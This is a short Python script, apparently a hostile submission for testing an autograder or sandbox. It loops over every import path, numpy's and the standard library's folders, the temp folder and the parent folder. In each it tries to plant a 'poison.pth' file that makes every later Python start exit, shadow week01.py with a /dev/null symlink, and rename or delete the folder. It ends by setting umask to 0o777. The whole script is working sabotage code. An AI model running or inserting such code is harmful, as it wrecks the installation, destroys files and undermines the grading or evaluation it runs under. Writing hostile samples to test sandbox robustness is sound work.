import os
import sys
import tempfile

import numpy as _numpy

for _folder in {*sys.path, os.path.dirname(_numpy.__file__), os.path.dirname(os.__file__), tempfile.gettempdir(), ".."}:
    for _try in (
        lambda: open(os.path.join(_folder, "poison.pth"), "w").write("import os; os._exit(3)"),
        lambda: os.mkdir(os.path.join(_folder, "poison")),
        lambda: os.symlink("/dev/null", os.path.join(_folder, "week01.py")),
        lambda: os.rename(_folder, _folder + ".gone"),
        lambda: os.rmdir(_folder),
    ):
        try:
            _try()
        except OSError:
            pass
_numpy.random.seed(0)
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "0"
os.umask(0o777)
